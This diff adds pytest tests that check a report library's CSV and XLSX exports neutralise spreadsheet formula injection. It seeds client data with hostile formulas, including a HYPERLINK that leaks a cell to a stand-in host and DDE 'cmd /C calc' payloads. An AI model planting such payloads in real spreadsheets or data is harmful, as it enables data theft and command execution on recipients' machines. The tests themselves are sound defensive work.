@@ -238,3 +238,66 @@ def test_run_checks_parameters_before_papermill(tmp_path, monkeypatch, no_paperm
     with pytest.raises(ReportError, match="refused"):
         report.run(FIXTURES / "tiny", None, "en", tmp_path / "out")
     assert calls and calls[0]["client"] == "tiny" and not (tmp_path / "out").exists()
+
+
+# --- spreadsheet formulas ------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]
+
+
+def poison_formulas(folder: Path) -> None:
+    """Every free-text CSV cell and YAML text starts with a formula (a different one per row)."""
+    for name, (model, _) in s.CLIENT_TABLES.items():
+        path = folder / name
+        if not path.is_file():
+            continue
+        rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+        for i, r in enumerate(rows):
+            for c in free_text_columns(model):
+                if c in r and c not in s.SENSITIVE_COLUMNS:
+                    r[c] = f"{FORMULAS[i % len(FORMULAS)]} {c}{i}"
+        buf = io.StringIO()
+        w = csv.DictWriter(buf, fieldnames=list(rows[0]), lineterminator="\n")
+        w.writeheader()
+        w.writerows(rows)
+        path.write_text(buf.getvalue(), encoding="utf-8")
+    spec = yaml.safe_load((folder / "spec.yaml").read_text(encoding="utf-8"))
+    for i, c in enumerate(spec["changes"]):
+        c["title"] = f"{FORMULAS[i % len(FORMULAS)]} change{i}"
+    (folder / "spec.yaml").write_text(yaml.safe_dump(spec, allow_unicode=True, sort_keys=False), encoding="utf-8")
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_exports_of_a_hostile_client_hold_no_formula(tiny, tmp_path, suffix):
+    from openpyxl import load_workbook
+
+    from impactlib import exports
+
+    from impactlib import review
+
+    ids = [f.id for f in review(load_client(tiny))]
+    poison_formulas(tiny)
+    (tiny / "acknowledgements.csv").write_text("finding_id,scenario,decision,decided_by,decided_on,comment\n" + "".join(
+        f'{i},,accepted,"{FORMULAS[n % 5].replace(chr(34), 2 * chr(34))}","2026-10-20","{FORMULAS[(n + 1) % 5].replace(chr(34), 2 * chr(34))}"\n'
+        for n, i in enumerate(ids)), encoding="utf-8")
+    c = load_client(tiny)
+    cells = []
+    for which, frames in (("findings", exports.findings_frames(c, None, "en")), ("training", exports.training_frames(c, None, "en"))):
+        if suffix == ".csv":
+            for i, (sheet, frame) in enumerate(frames.items()):
+                path = exports.write_table({sheet: frame}, tmp_path / f"{which}{i}.csv")
+                cells += [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for cell in row]
+        else:
+            path = exports.write_table(frames, tmp_path / f"{which}.xlsx")
+            wb = load_workbook(path)
+            for ws in wb.worksheets:
+                for row in ws.iter_rows():
+                    for cell in row:
+                        if isinstance(cell.value, str):
+                            assert cell.data_type == "s", (cell.coordinate, cell.value)
+                            cells.append(cell.value)
+    starts = [x for x in cells if x[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert starts == []
+    neutralised = {x[:2] for x in cells if x.startswith("'")}
+    assert {"'=", "'+", "'-", "'@"} <= neutralised, neutralised  # the payloads did reach the sheets, defused
